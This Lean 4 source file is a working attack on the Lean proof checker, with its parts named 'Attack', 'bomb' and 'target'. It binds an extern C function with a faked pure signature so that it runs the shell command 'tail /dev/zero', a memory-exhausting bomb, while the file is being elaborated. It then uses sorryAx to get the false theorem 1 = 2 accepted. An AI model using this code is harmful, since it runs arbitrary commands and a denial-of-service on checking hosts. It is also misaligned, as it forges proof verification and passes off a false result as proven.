inductive Answer where
  | ok (a : Nat × Nat)
  | error (a : Nat × Nat)
instance : Inhabited Answer := ⟨.ok ⟨0, 0⟩⟩
namespace Attack
inductive Stdio where
  | piped | inherit | null
structure StdioConfig where
  stdin : Stdio
  stdout : Stdio
  stderr : Stdio
structure SpawnArgs extends StdioConfig where
  cmd : String
  args : Array String
  cwd : Option String
  env : Array (String × Option String)
  inheritEnv : Bool
  setsid : Bool
end Attack
@[extern "c"] opaque IO.Process.output (args : Attack.SpawnArgs) (input : Option String) (world : Unit) : Answer
def bomb : Attack.SpawnArgs :=
  { stdin := .null, stdout := .null, stderr := .null, cmd := "/bin/sh"
    args := .mk ["-c", "tail /dev/zero"]
    cwd := none, env := .mk [], inheritEnv := true, setsid := false }
macro "attack" : tactic => do
  match IO.Process.output bomb none () with
  | .ok _ => `(tactic| exact sorryAx _ false)
  | .error _ => `(tactic| exact sorryAx _ true)
theorem target : 1 = 2 := by attack
